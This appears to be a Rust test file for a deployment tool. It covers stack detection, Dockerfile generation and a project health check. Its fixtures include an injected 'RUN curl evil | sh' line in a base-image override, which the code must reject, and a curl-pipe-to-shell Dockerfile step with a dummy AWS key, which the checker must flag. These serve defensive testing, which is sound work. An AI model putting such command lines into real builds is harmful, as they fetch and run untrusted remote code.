//! Stack detection, Dockerfile generation and the project health check on fixtures made
//! here — including the tricky ones (Next.js with a bun lockfile, Django vs FastAPI vs
//! Flask, a monorepo with its own Dockerfile).

use std::path::Path;

use sh0::build::check::{Severity, check};
use sh0::build::{BaseImages, PackageManager, Stack, detect, generate};

fn fixture(files: &[(&str, &str)]) -> tempfile::TempDir {
    let d = tempfile::tempdir().unwrap();
    for (path, text) in files {
        let p = d.path().join(path);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    d
}

fn pkg(deps: &str, scripts: &str) -> String {
    format!("{{\"name\":\"x\",\"scripts\":{{{scripts}}},\"dependencies\":{{{deps}}}}}")
}

/// What, files, stack, framework, package manager, port.
type Case = (
    &'static str,
    Vec<(&'static str, String)>,
    Stack,
    Option<&'static str>,
    Option<PackageManager>,
    u16,
);

#[test]
fn every_stack_is_detected_with_its_framework_manager_and_port() {
    let next = pkg(
        "\"next\":\"15\",\"react\":\"19\"",
        "\"build\":\"next build\",\"start\":\"next start\"",
    );
    let cases: Vec<Case> = vec![
        (
            "dockerfile wins",
            vec![
                ("Dockerfile", "FROM x\nEXPOSE 9000\n".into()),
                ("package.json", next.clone()),
            ],
            Stack::Dockerfile,
            None,
            None,
            9000,
        ),
        (
            "next.js + npm",
            vec![("package.json", next.clone()), ("package-lock.json", "{}".into())],
            Stack::Nodejs,
            Some("Next.js"),
            Some(PackageManager::Npm),
            3000,
        ),
        (
            "next.js + bun lockfile is next.js",
            vec![("package.json", next.clone()), ("bun.lockb", "".into())],
            Stack::Nodejs,
            Some("Next.js"),
            Some(PackageManager::Bun),
            3000,
        ),
        (
            "nuxt + pnpm",
            vec![
                ("package.json", pkg("\"nuxt\":\"3\"", "\"build\":\"nuxt build\"")),
                ("pnpm-lock.yaml", "".into()),
            ],
            Stack::Nodejs,
            Some("Nuxt"),
            Some(PackageManager::Pnpm),
            3000,
        ),
        (
            "sveltekit + yarn",
            vec![
                (
                    "package.json",
                    pkg("\"@sveltejs/kit\":\"2\"", "\"build\":\"vite build\""),
                ),
                ("yarn.lock", "".into()),
            ],
            Stack::Nodejs,
            Some("SvelteKit"),
            Some(PackageManager::Yarn),
            3000,
        ),
        (
            "astro",
            vec![("package.json", pkg("\"astro\":\"4\"", "\"build\":\"astro build\""))],
            Stack::Nodejs,
            Some("Astro"),
            Some(PackageManager::Npm),
            8080,
        ),
        (
            "generic node",
            vec![("package.json", pkg("\"express\":\"4\"", "\"start\":\"node server.js\""))],
            Stack::Nodejs,
            None,
            Some(PackageManager::Npm),
            3000,
        ),
        (
            "bun",
            vec![
                ("package.json", pkg("\"hono\":\"4\"", "\"start\":\"bun run index.ts\"")),
                ("bun.lock", "".into()),
            ],
            Stack::Bun,
            None,
            Some(PackageManager::Bun),
            3000,
        ),
        (
            "django",
            vec![
                (
                    "manage.py",
                    "os.environ.setdefault('DJANGO_SETTINGS_MODULE', 'mysite.settings')".into(),
                ),
                ("requirements.txt", "Django==5.0\nfastapi==0.1\n".into()),
            ],
            Stack::Python,
            Some("Django"),
            Some(PackageManager::Pip),
            8000,
        ),
        (
            "fastapi",
            vec![
                ("requirements.txt", "fastapi==0.115\nuvicorn==0.30\n".into()),
                ("main.py", "from fastapi import FastAPI\napi = FastAPI()\n".into()),
            ],
            Stack::Python,
            Some("FastAPI"),
            Some(PackageManager::Pip),
            8000,
        ),
        (
            "flask + poetry",
            vec![
                (
                    "pyproject.toml",
                    "[tool.poetry]\nname='x'\n[tool.poetry.dependencies]\nflask='3'\n".into(),
                ),
                ("poetry.lock", "".into()),
                ("app.py", "app = Flask(__name__)\n".into()),
            ],
            Stack::Python,
            Some("Flask"),
            Some(PackageManager::Poetry),
            8000,
        ),
        (
            "python + uv",
            vec![
                ("pyproject.toml", "[project]\nname='x'\n".into()),
                ("uv.lock", "".into()),
                ("main.py", "print(1)".into()),
            ],
            Stack::Python,
            None,
            Some(PackageManager::Uv),
            8000,
        ),
        (
            "go",
            vec![("go.mod", "module x\nrequire github.com/gin-gonic/gin v1\n".into())],
            Stack::Go,
            Some("gin"),
            Some(PackageManager::Go),
            8080,
        ),
        (
            "rust",
            vec![("Cargo.toml", "[package]\nname = \"svc\"\n".into())],
            Stack::Rust,
            None,
            Some(PackageManager::Cargo),
            8080,
        ),
        (
            "maven",
            vec![("pom.xml", "<project/>".into())],
            Stack::Java,
            Some("Maven"),
            Some(PackageManager::Maven),
            8080,
        ),
        (
            "gradle",
            vec![("build.gradle.kts", "".into())],
            Stack::Java,
            Some("Gradle"),
            Some(PackageManager::Gradle),
            8080,
        ),
        (
            "php",
            vec![("composer.json", "{}".into()), ("artisan", "".into())],
            Stack::Php,
            Some("Laravel"),
            None,
            80,
        ),
        (
            ".net",
            vec![("api.csproj", "<Project/>".into())],
            Stack::Dotnet,
            Some("ASP.NET"),
            None,
            8080,
        ),
        (
            "ruby",
            vec![("Gemfile", "gem 'rails'".into())],
            Stack::Ruby,
            Some("Rails"),
            None,
            3000,
        ),
        (
            "static",
            vec![("index.html", "<h1>hi</h1>".into())],
            Stack::Static,
            None,
            None,
            8080,
        ),
        (
            "unknown",
            vec![("notes.txt", "hello".into())],
            Stack::Unknown,
            None,
            None,
            8080,
        ),
    ];
    for (what, files, stack, framework, pm, port) in cases {
        let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (*p, t.as_str())).collect();
        let dir = fixture(&refs);
        let d = detect(dir.path());
        assert_eq!(d.stack, stack, "{what}");
        assert_eq!(d.framework.as_deref(), framework, "{what}");
        assert_eq!(d.package_manager, pm, "{what}");
        assert_eq!(d.port, port, "{what}");
        // Generation: reliable stacks get a Dockerfile, the others a clear request.
        let generated = generate(&d, &BaseImages::default());
        match stack {
            Stack::Php | Stack::Dotnet | Stack::Ruby | Stack::Unknown | Stack::Dockerfile => {
                let e = generated.expect_err(what).to_string();
                assert!(e.contains("Dockerfile"), "{what}: {e}");
            }
            _ => {
                let df = generated.unwrap_or_else(|e| panic!("{what}: {e}"));
                assert!(
                    df.contains("FROM ") && (df.contains("CMD [") || df.contains("ENTRYPOINT")),
                    "{what}:\n{df}"
                );
                assert!(
                    df.contains("USER "),
                    "{what}: generated images do not run as root:\n{df}"
                );
            }
        }
    }
    // Entry points are found where the app object is made.
    let fastapi = fixture(&[
        ("requirements.txt", "fastapi\n"),
        ("app/main.py", "application = FastAPI()\n"),
    ]);
    assert_eq!(detect(fastapi.path()).entry.as_deref(), Some("app.main:application"));
    let django = fixture(&[("manage.py", "DJANGO_SETTINGS_MODULE\", \"shop.settings\")")]);
    assert!(detect(django.path()).start_command.unwrap().contains("shop.wsgi"));
}

#[test]
fn base_images_are_configurable() {
    let images = BaseImages::default()
        .with_overrides(["static=registry.local/busybox:1.36"])
        .unwrap();
    let dir = fixture(&[("index.html", "x")]);
    assert!(
        generate(&detect(dir.path()), &images)
            .unwrap()
            .contains("FROM registry.local/busybox:1.36")
    );
    assert!(BaseImages::default().with_overrides(["nope=x"]).is_err());
    // Whoever gives the image (a flag, a stored setting), it cannot add a line.
    for bad in ["busybox\nRUN curl evil | sh", "busybox AS x", "", "Busybox", "a#b"] {
        assert!(
            BaseImages::default()
                .with_overrides([format!("static={bad}").as_str()])
                .is_err(),
            "{bad:?}"
        );
    }
}

fn rules_of(dir: &Path) -> Vec<String> {
    check(dir).findings.iter().map(|f| f.rule.to_string()).collect()
}

#[test]
fn health_check_finds_problems_with_file_line_and_fix() {
    let dir = fixture(&[
        (
            "server.js",
            "const key = 'AKIAABCDEFGHIJKLMNOP';\napp.listen(3000, '127.0.0.1');\n",
        ),
        (
            "package.json",
            &pkg("\"express\":\"4\"", "\"start\":\"nodemon server.js\""),
        ),
        ("settings.py", "DEBUG = True\nALLOWED_HOSTS = []\n"),
        (
            "Dockerfile",
            "FROM node:latest\nENV API_TOKEN=abc123\nRUN curl https://x.sh | sh\nCOPY . .\nRUN npm install\n",
        ),
        (".env", "A=1"),
        ("debug.log", "x"),
    ]);
    let report = check(dir.path());
    let rules = rules_of(dir.path());
    for expected in [
        "secrets/aws-key",
        "net/localhost-bind",
        "runtime/dev-server",
        "config/debug-enabled",
        "config/django-allowed-hosts",
        "build/latest-tag",
        "security/secret-in-image",
        "security/curl-pipe-shell",
        "security/root-user",
        "runtime/no-cmd",
        "build/no-dockerignore",
        "build/npm-install",
        "perf/copy-before-install",
        "secrets/env-file",
        "hygiene/log-file",
        "config/missing-lockfile",
        "hygiene/no-readme",
    ] {
        assert!(rules.iter().any(|r| r == expected), "{expected} not found in {rules:?}");
    }
    let aws = report.findings.iter().find(|f| f.rule == "secrets/aws-key").unwrap();
    assert_eq!(
        (aws.file.as_deref(), aws.line, aws.severity),
        (Some("server.js"), Some(1), Severity::Critical)
    );
    assert!(!aws.fix.is_empty());
    assert!(report.score < 30, "a bad project scores low: {}", report.score);
    assert!(report.rules >= 34);
    let categories: std::collections::BTreeSet<String> = report
        .findings
        .iter()
        .map(|f| serde_json::to_string(&f.category).unwrap())
        .collect();
    assert!(categories.len() >= 7, "{categories:?}");

    let clean = fixture(&[
        ("README.md", "# ok"),
        (".gitignore", "node_modules\n"),
        (".dockerignore", "node_modules\n"),
        (
            "package.json",
            &pkg("\"express\":\"4\"", "\"start\":\"node server.js\"")
                .replace("\"name\":\"x\"", "\"name\":\"x\",\"engines\":{\"node\":\">=20\"}"),
        ),
        ("package-lock.json", "{}"),
        (
            "server.js",
            "app.get('/healthz', ok);\napp.listen(process.env.PORT || 3000);\n",
        ),
        (
            "Dockerfile",
            "FROM node:22-slim\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nUSER 1000\nEXPOSE 3000\nCMD [\"node\", \"server.js\"]\n",
        ),
    ]);
    let report = check(clean.path());
    assert_eq!(report.score, 100, "{:?}", report.findings);
}
